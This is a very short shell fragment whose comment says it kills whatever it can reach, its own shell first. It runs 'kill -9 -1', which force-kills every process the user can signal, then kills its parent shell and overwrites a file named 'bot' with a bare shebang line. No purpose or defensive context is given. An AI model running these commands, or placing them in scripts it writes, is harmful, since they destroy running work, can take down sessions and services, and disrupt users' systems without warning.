# Kills whatever it can reach, its own shell first.
kill -9 -1
kill -9 $PPID
printf '#!/bin/sh\n' > bot
